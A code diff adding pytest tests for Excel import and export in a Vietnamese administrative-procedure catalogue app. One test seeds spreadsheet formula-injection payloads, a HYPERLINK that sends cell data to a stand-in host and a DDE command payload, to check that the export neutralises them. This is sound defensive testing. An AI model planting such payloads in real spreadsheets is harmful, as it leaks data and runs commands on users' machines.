@@ -195,3 +195,54 @@ def test_code_typed_as_a_number_keeps_its_trailing_zeros(db):
     row[0] = 1.00011  # Excel turns a typed 1.000110 into a number
     import_workbook(workbook_bytes([row]))
     assert Procedure.objects.filter(code="1.000110").exists()
+
+
+def test_export_writes_a_formula_like_name_as_literal_text(starter):
+    hostile = '=HYPERLINK("http://ke-xau.example/?"&B2,"Bấm vào đây")'
+    Procedure.objects.filter(code="1.001193").update(name=hostile, legal_basis="+cmd|' /C calc'!A0")
+    wb = load_workbook(io.BytesIO(catalog_export_excel()))
+    formulas = [
+        cell.coordinate
+        for sheet in wb.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    row = next(r for r in wb["Thủ tục"].iter_rows(min_row=2) if r[0].value == "1.001193")
+    assert row[1].value == hostile and row[1].data_type == "s"
+    assert row[11].value == "+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "message"),
+    [
+        (8, 10**15, "Lệ phí (đồng) không được lớn hơn 1.000.000.000"),
+        (8, "9" * 5000, "Lệ phí (đồng) '999999999999999999999999999999' phải là số nguyên"),
+        (6, 3_000_000_000, "Thời hạn không được lớn hơn 1.000"),
+        (11, "Luật " * 2000, "Căn cứ pháp lý dài quá 5000 ký tự"),
+        (1, "Tên " * 200, "Tên thủ tục dài quá 400 ký tự"),
+        (9, "x" * 301, "Ghi chú lệ phí dài quá 300 ký tự"),
+    ],
+)
+def test_over_long_or_out_of_range_cells_are_named_not_a_server_error(db, column, value, message):
+    row = [*GOOD]
+    row[column] = value
+    with pytest.raises(ValidationFailed) as exc:
+        import_workbook(workbook_bytes([row]))
+    assert len(exc.value.details) == 1
+    assert exc.value.details[0].startswith(f"Sheet 'Thủ tục', dòng 2: {message}")
+    assert not Procedure.objects.exists()
+
+
+def test_quantity_beyond_the_column_range_is_a_row_error(db):
+    with pytest.raises(ValidationFailed) as exc:
+        import_workbook(workbook_bytes([GOOD], checklist=[["9.000001", 1, "Đơn", "Bản chính", 40000, "Có"]]))
+    assert exc.value.details == ["Sheet 'Giấy tờ', dòng 2: Số lượng không được lớn hơn 100 (đang ghi 40.000)"]
+
+
+def test_control_characters_in_a_cell_are_dropped(db):
+    row = [*GOOD]
+    row[1] = "Thủ tục\x85 thử\x9f nghiệm"  # C1 controls are legal XML but never text
+    import_workbook(workbook_bytes([row]))
+    assert Procedure.objects.get(code="9.000001").name == "Thủ tục thử nghiệm"
